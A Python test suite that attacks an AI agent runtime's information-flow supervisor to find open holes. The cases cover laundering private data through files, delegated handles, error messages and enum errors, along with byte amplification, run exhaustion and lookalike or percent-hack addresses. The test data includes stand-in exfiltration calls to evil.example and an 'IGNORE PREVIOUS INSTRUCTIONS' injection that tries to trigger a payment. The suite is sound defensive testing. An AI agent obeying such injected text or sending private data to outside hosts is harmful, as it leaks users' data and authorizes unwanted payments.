"""Attacks on information-flow control, each through the real supervisor path (PolicyHarness: real
wire format, real token chain, real audit log). Each test asserts what SHOULD hold; a test that
fails shows a hole that is still open."""

from __future__ import annotations

from typing import Any

import pytest

from runtime import PolicyHarness
from runtime.errors import ErrorCode

from test_flow import policy as flow_policy

TOOLS = ["flow_tools", "runtime.toolbox"]


def policy(agent: str, **extra: Any) -> dict[str, Any]:
    """The per-agent policy of tests/unit/test_flow.py (every tool, arguments free, labels declared
    once), delegating to helper and lax."""
    return flow_policy(agent, delegates=("helper", "lax"), **extra)


def hiding(agent: str, *names: str, **extra: Any) -> dict[str, Any]:
    tools = {n: {"effect": "read", "output": {"hide": True}} for n in names}
    return policy(agent, tools={**tools, **extra.pop("tools", {})}, **extra)


@pytest.fixture
def h():
    with PolicyHarness(tools=TOOLS) as harness:
        harness.add_agent(policy("assistant"))
        harness.add_agent(policy("helper"))
        yield harness


# ---------------------------------------------------------------------------- audit: the origin


def test_origin_names_the_result_that_lowered_the_integrity_not_the_first_that_narrowed_readers(h):
    """The run's origin is set once, by the first result that changed the label in any way. A private
    but trusted read (notes.read: trusted, readers *@corp.example) comes first; an untrusted page
    then taints the context. The FLOW_DENIED of a `context: trusted` rule must name the page, not
    the notes (which are trusted): the operator is sent to the wrong call."""
    assert h.call("assistant", "notes.read").allowed
    page = h.call("assistant", "web.get", {"url": "https://news.example/"})
    assert page.outcome["context"]["integrity"] == "untrusted"
    d = h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 1})
    assert d.code == "FLOW_DENIED"
    assert d.audit["flow"]["origin"]["tool"] == "web.get", d.audit["flow"]
    assert d.audit["flow"]["origin"]["call_id"] == page.outcome["call_id"]


def test_origin_of_an_argument_is_the_handle_in_that_argument(h):
    """Two hidden untrusted pages: one passed as the body (allowed: body is free), the other as the
    recipient. The denial is about `to`; its origin must be the call whose handle is in `to`, not
    the one whose handle happens to come first among the arguments."""
    h.add_agent(hiding("reader", "web.get"))
    body = h.call("reader", "web.get", {"url": "https://news.example/"})
    to = h.call("reader", "web.get", {"url": "https://evil.example/"})
    d = h.call("reader", "mail.send", {"body": body.value, "to": to.value})
    assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "to"
    assert d.audit["flow"]["origin"]["call_id"] == to.outcome["call_id"], (d.audit["flow"], body.outcome["call_id"])


# ---------------------------------------------------------------------------- confidentiality


def test_private_data_written_to_the_workspace_and_read_back_is_still_private():
    """Laundering readers through storage with the shipped declarations: ``fs.write`` declares its
    result a receipt (trusted, carries_inputs false) and ``fs.read`` declares nothing (untrusted,
    *public*). The agent writes a hidden private result (readers *@corp.example) to a file via its
    handle, reads the file back, and posts it to an outside host: the `destination: url` rule sees
    public data and allows it. No approval, no denial. (Tool bodies stubbed with an in-memory
    workspace so no sandbox is needed; the declarations and contracts are the shipped ones.)"""
    disk: dict[str, Any] = {}

    def write(path: str, content: Any) -> dict[str, Any]:
        disk[path] = content
        return {"written": len(str(content))}

    with PolicyHarness(tools=TOOLS, stubs={"fs.write": write, "fs.read": lambda path: disk[path]}) as h:
        h.add_agent(hiding("assistant", "notes.read", tools={"fs.write": {"effect": "write"},
                                                              "fs.read": {"effect": "read"}}))
        notes = h.call("assistant", "notes.read")
        assert notes.value["label"]["readers"] == [["*@corp.example"]]
        direct = h.call("assistant", "web.post", {"url": "https://evil.example/drop", "body": notes.value})
        assert direct.code == "FLOW_DENIED"  # the handle itself is stopped at the sink
        assert h.call("assistant", "fs.write", {"path": "/workspace/n.txt", "content": notes.value}).allowed
        back = h.call("assistant", "fs.read", {"path": "/workspace/n.txt"})
        assert back.value == "launch date: 12 May"
        d = h.call("assistant", "web.post", {"url": "https://evil.example/drop", "body": back.value})
        assert back.outcome["label"]["readers"] != "public", back.outcome["label"]
        assert d.code in ("FLOW_DENIED", "APPROVAL_DENIED"), (d, d.audit)


def test_a_handle_passed_to_a_delegated_run_is_not_usable_under_the_delegates_other_tokens(h):
    """Handles are bound to agent *names*, not to runs. ``boss`` passes a private handle to ``lax``
    through a delegation whose token carries boss's sink rules (web.post: destination url). Under
    that token lax is stopped; under its own root token (its own policy has no sink rule) the same
    handle goes to an outside host. The delegator's rules are shed for the delegator's data."""
    h.add_agent({"agent": "lax", "tools": {"web.post": {"effect": "write"}, "handle.reveal": {"effect": "read"}}})
    h.add_agent(hiding("boss", "notes.read", delegation={"can_delegate_to": ["lax"], "max_depth": 2}))
    notes = h.call("boss", "notes.read").value
    given = h.delegate("boss", "lax", handles=[notes])
    assert given.allowed
    stopped = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes}, token=given.token)
    assert stopped.code == "FLOW_DENIED"
    d = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes})  # lax's root token
    assert not d.allowed, (d.value, d.audit)
    assert d.code in ("HANDLE_DENIED", "FLOW_DENIED")


def test_revoking_the_delegation_a_handle_was_passed_through_ends_the_delegates_use_of_it(h):
    """The delegation is revoked: the handle it carried stays usable by the delegate by name."""
    h.add_agent({"agent": "lax", "tools": {"web.post": {"effect": "write"}, "mail.send": {"effect": "write"}}})
    h.add_agent(hiding("boss", "notes.read", delegation={"can_delegate_to": ["lax"], "max_depth": 2}))
    notes = h.call("boss", "notes.read").value
    given = h.delegate("boss", "lax", handles=[notes])
    from runtime.trusted.capability import Token
    h.supervisor.revoke_token(Token.decode(given.token).token_id)
    assert h.call("lax", "mail.send", {"to": "x@corp.example", "body": notes}, token=given.token).code \
        == "TOKEN_REVOKED"
    d = h.call("lax", "mail.send", {"to": "eve@evil.example", "body": notes})
    assert d.code == "HANDLE_DENIED", (d.value, d.audit)


# ---------------------------------------------------------------------------- exhaustion


def test_a_list_of_references_to_one_handle_cannot_multiply_its_bytes(h):
    """A handle is counted once against the agent's byte limit, but substituted once per reference:
    a ~30 KB request naming one 20 KB handle 2,000 times makes a 40 MB argument, which the
    supervisor copies into the audit record and the signed dispatch (handle.reveal takes `Any`).
    The default limits (10,000 items per request, 16 MB per handle) make that terabytes. The call
    must be refused with a typed code when the substituted arguments exceed the handle limit."""
    with PolicyHarness(tools=TOOLS, stubs={"notes.read": "x" * 20_000}) as hh:
        hh.add_agent(hiding("reader", "notes.read", handles={"max_count": 4, "max_bytes": 1 << 20, "ttl_s": 60}))
        ref = {"$handle": hh.call("reader", "notes.read").value["$handle"]}
        d = hh.call("reader", "handle.reveal", {"handle": [ref] * 2000})
        size = sum(len(v) for v in d.audit["args"]["handle"]) if d.allowed else 0
        assert not d.allowed and d.code in ("HANDLE_LIMIT", "TOO_LARGE"), f"allowed: {size} bytes in the record"


def test_one_agent_cannot_use_up_the_shards_agent_runs(h, monkeypatch):
    """Runs are never forgotten and ``delegate`` has no rate check, so one agent that delegates with
    a fresh narrowing each time (a new Expires) fills MAX_RUNS, after which every delegation of
    every agent on the shard is DELEGATION_DENIED, journaled and so for good. (MAX_RUNS lowered
    so the test is quick; at 65,536 it is the same number of requests an agent can make.)"""
    import runtime.trusted.supervisor as sup

    monkeypatch.setattr(sup, "MAX_RUNS", 12)
    h.add_agent(policy("boss"))
    for i in range(20):
        h.delegate("assistant", "helper", ttl_s=100 + i)
    assert h.delegate("boss", "helper").allowed, "the attacker's delegations denied another agent's"


def test_handle_ids_never_collide_with_a_live_handle(h, monkeypatch):
    """Ids are the shard's epoch and 32 random bits, stored without a uniqueness check: a collision
    (birthday bound: ~7% at 25,000 live handles) silently replaces another agent's handle. Forced
    here by fixing the random part."""
    import runtime.trusted.flow as flow

    h.add_agent(hiding("a", "notes.read"))
    h.add_agent(hiding("b", "web.get"))
    import secrets
    import types

    fixed = iter(["00000000"] * 2)  # the next two ids drawn are the same; then random again
    monkeypatch.setattr(flow, "secrets", types.SimpleNamespace(token_hex=lambda n: next(fixed, None) or
                                                              secrets.token_hex(n) if n == 4 else secrets.token_hex(n)))
    first = h.call("a", "notes.read").value
    second = h.call("b", "web.get", {"url": "https://evil.example/"}).value
    assert first["$handle"] != second["$handle"]
    d = h.call("a", "handle.reveal", {"handle": first})
    assert d.allowed and d.value == "launch date: 12 May", d


# ---------------------------------------------------------------------------- laundering


def test_a_receipt_tools_error_message_carries_the_handles_passed_in():
    """``carries_inputs: false`` says the *result* is a receipt; it says nothing of the tool's error
    text, which commonly quotes its input ("bounced: <body>"). The hidden untrusted page goes into
    mail.send's body by handle (allowed: the body is free); the mailer fails quoting it; the
    supervisor labels the message with the receipt's declaration (trusted, inputs not carried),
    so the model reads the injected text with a clean context and the payment it asks for is
    allowed. The error detail must carry the handle's label (or be withheld)."""
    def bounce(to: str, body: str) -> dict[str, Any]:
        raise RuntimeError(f"message to {to} bounced: {body}")

    with PolicyHarness(tools=TOOLS, stubs={"mail.send": bounce}) as h:
        h.add_agent(hiding("assistant", "web.get"))
        page = h.call("assistant", "web.get", {"url": "https://news.example/"}).value
        sent = h.call("assistant", "mail.send", {"to": "bob@corp.example", "body": page})
        assert sent.allowed and sent.outcome["code"] == "TOOL_FAILED"
        shown = sent.error.detail or ""
        pay = h.call("assistant", "bank.pay", {"iban": "XX99", "amount": 1})
        assert "IGNORE PREVIOUS INSTRUCTIONS" not in shown or pay.code == "FLOW_DENIED", (shown, pay)


# ---------------------------------------------------------------------------- destinations


def test_a_lookalike_reader_pattern_is_refused_wherever_it_is_declared():
    """A policy refuses readers ['*corp.example'] (it admits evilcorp.example), but the same pattern
    in ``@tool(output=...)`` (and a job file's ``outputs:``) is taken as written, and private data
    then reaches x@evilcorp.example."""
    from runtime.errors import ConfigError
    from runtime.tool import load_tools, tool

    try:
        @tool(effect="read", name="hr.read", output={"integrity": "trusted", "readers": ["*corp.example"]})
        def hr_read() -> str:
            """Salaries."""
            return "salaries"
    except (ValueError, ConfigError):
        return  # refused where it is declared: what should happen
    tools = {**load_tools(["flow_tools"]), "hr.read": hr_read}
    with PolicyHarness(tools=tools) as h:
        h.add_agent({"agent": "a", "tools": {"hr.read": {"effect": "read"}, "mail.send": {
            "effect": "write", "ifc": {"destination": "to"}}}})
        assert h.call("a", "hr.read").allowed
        d = h.call("a", "mail.send", {"to": "eve@evilcorp.example", "body": "salaries"})
        assert d.code == "FLOW_DENIED", d


@pytest.mark.parametrize("to", ["eve%evil.example@corp.example", "eve@evil.example@corp.example"])
def test_a_destination_that_routes_elsewhere_is_not_admitted_by_a_domain_pattern(h, to):
    """``*@corp.example`` is matched as a string suffix; a principal may hold '%' and several '@'.
    'user%host@relay' (the percent hack) is delivered by a relay that honours it to user@host, and
    a second '@' leaves the recipient to the mailer's parser. Neither is one address at
    corp.example; both are admitted."""
    assert h.call("assistant", "notes.read").allowed  # private: readers *@corp.example
    d = h.call("assistant", "mail.send", {"to": to, "body": "launch date"})
    assert d.code == "FLOW_DENIED", d


# ---------------------------------------------------------------------------- fail closed


def test_a_delegation_denied_because_the_log_is_down_passes_no_handle_on(h, monkeypatch):
    """``delegate`` adds the target to the handle's agents before it writes the delegate record; the
    log is down, the delegation is denied (AUDIT_UNAVAILABLE) but the handle stays passed on, and
    the target uses it under its own token. A denied request must change nothing."""
    from runtime.errors import AuditUnavailable

    h.add_agent({"agent": "lax", "tools": {"web.post": {"effect": "write"}}})
    h.add_agent(hiding("boss", "notes.read", delegation={"can_delegate_to": ["lax"], "max_depth": 2}))
    notes = h.call("boss", "notes.read").value
    audit, real = h.supervisor.audit, h.supervisor.audit.record

    def down(kind: str, **fields: Any) -> int:
        if kind == "delegate":
            raise AuditUnavailable("disk full")
        return real(kind, **fields)

    monkeypatch.setattr(audit, "record", down)
    denied = h.delegate("boss", "lax", handles=[notes])
    assert not denied.allowed and denied.error.code is ErrorCode.AUDIT_UNAVAILABLE
    monkeypatch.setattr(audit, "record", real)
    d = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes})
    assert d.code == "HANDLE_DENIED", (d.value, d.audit)


def test_a_malformed_argument_detail_does_not_show_a_handles_content():
    """Handles are substituted before the arguments are conformed, and a value outside an enum is
    quoted (80 characters) in the MALFORMED error, whose text the agent gets (``detail``). A hidden
    untrusted page passed as an enum argument is read by the model this way, the context stays
    clean, and the payment the page asks for is allowed."""

    from dataclasses import replace

    from runtime.tool import Tool, load_tools, tool
    from runtime.trusted.wire import ParamSpec

    @tool(effect="write", name="ticket.set", output={"integrity": "trusted", "carries_inputs": False})
    def ticket_set(status: str) -> str:
        """Set a ticket's status (an enum, as a JSON-schema tool such as an MCP server's declares it)."""
        return status

    enum = replace(ticket_set.spec, params={"status": ParamSpec(type="string", enum=("open", "closed"))})
    ticket = Tool(ticket_set.fn, enum, ticket_set.schema, ticket_set.wants_ctx)
    with PolicyHarness(tools={**load_tools(["flow_tools"]), "ticket.set": ticket}) as h:
        h.add_agent({"agent": "a", "tools": {"web.get": {"effect": "read", "output": {"hide": True}},
                                             "ticket.set": {"effect": "write"},
                                             "bank.pay": {"effect": "write", "ifc": {"context": "trusted"}}}})
        page = h.call("a", "web.get", {"url": "https://news.example/"}).value
        d = h.call("a", "ticket.set", {"status": page})
        assert d.code == "MALFORMED"
        shown = d.error.detail or ""
        pay = h.call("a", "bank.pay", {"iban": "XX99", "amount": 1})
        assert "IGNORE PREVIOUS INSTRUCTIONS" not in shown or pay.code == "FLOW_DENIED", (shown, pay.code)


def test_a_batch_naming_one_handle_in_every_item_cannot_multiply_its_bytes():
    """The same amplification through call_many: a batch of 200 items, each passing one 100 KB
    handle as a mail body (a `str` parameter: no list needed), is 20 MB of arguments in the audit
    log and in one dispatch to the worker, from a request of a few KB, whatever the agent's handle
    byte limit (1 MB here). The default ``max_concurrent: 8`` caps this at 8x (128 MB with the
    default 16 MB limit); a batch-heavy agent's policy raises it (here: unbounded). What a request
    substitutes must stay within the handle byte limit."""
    from runtime.protocol import decode_reply

    with PolicyHarness(tools=TOOLS, stubs={"notes.read": "x" * 100_000}) as h:
        h.add_agent(hiding("reader", "notes.read", handles={"max_count": 4, "max_bytes": 1 << 20, "ttl_s": 60},
                           quotas={"max_concurrent": None}))
        ref = {"$handle": h.call("reader", "notes.read").value["$handle"]}
        calls = [{"tool": "mail.send", "args": {"to": "bob@corp.example", "body": ref}}] * 200
        before = len(h.records)
        reply = decode_reply(h._run(h.supervisor.call_batch(h._request("reader", {"op": "batch", "batch": calls},
                                                                            None))))
        assert len(reply["batch"]) == 200
        # Each item is decided on its own (the log caps each field, so the log does not grow by the
        # content); what the batch would send the worker is bounded by the limit: the items past it are
        # not dispatched (HANDLE_LIMIT, refunded), so nothing carries more than the limit onwards.
        outcomes = [r for r in h.records[before:] if r["kind"] == "outcome"]
        sent = [r for r in outcomes if r["dispatched"]]
        assert len(sent) * 100_000 <= 1 << 20, f"{len(sent)} items dispatched"
        refused = [r for r in outcomes if not r["dispatched"]]
        assert refused and {r["code"] for r in refused} == {"HANDLE_LIMIT"}
        assert {x["error"]["code"] for x in reply["batch"] if not x["ok"]} == {"HANDLE_LIMIT"}


@pytest.mark.parametrize("readers", [[], [""], ["*@corp.example", ""]])
def test_a_reader_list_that_admits_nobody_or_a_non_name_is_not_fail_open(readers):
    """``readers: []`` reads as "nobody" but becomes public (``self.readers or "public"``), and an
    empty entry admits '' — which is what ``destination`` returns for a value that is not one name,
    so the two-recipient string the previous commit refuses is admitted again. Either the policy
    is refused, or private data does not reach an outside recipient."""
    from runtime.errors import ConfigError

    with PolicyHarness(tools=TOOLS) as h:
        try:
            h.add_agent(policy("a", tools={"notes.read": {"effect": "read", "output": {"readers": readers}}}))
        except ConfigError:
            return
        assert h.call("a", "notes.read").allowed
        d = h.call("a", "mail.send", {"to": "eve@evil.example,bob@corp.example", "body": "launch date"})
        assert d.code == "FLOW_DENIED", d


def test_agent_runs_cannot_make_every_request_rewrite_the_journal(h, tmp_path):
    """Every run is in the compaction snapshot (~150 bytes each here, more with longer names and
    reader sets) and none is ever dropped. Once the snapshot alone is larger than
    ``compact_bytes``, each journal append (every request journals its nonce) compacts again: a
    full rewrite per request, for every agent on the shard. One agent gets there by delegating
    with a fresh narrowing each time (65,536 runs x ~270 bytes > the 16 MB default; the threshold
    is lowered here so the test is quick)."""
    from runtime.trusted.state import StateJournal

    journal = StateJournal(tmp_path / "state", compact_bytes=64 << 10)
    h.supervisor.journal = journal
    h.add_agent(policy("boss"))
    h.call("assistant", "web.get", {"url": "https://news.example/"})
    for i in range(600):
        h.delegate("assistant", "helper", ttl_s=100 + i)
    compactions, real = [], journal.compact
    journal.compact = lambda snapshot: (compactions.append(1), real(snapshot))[1]
    for _ in range(20):
        assert h.call("boss", "notes.read").allowed
    assert len(compactions) <= 2, f"{len(compactions)} full rewrites of the journal for 20 calls"
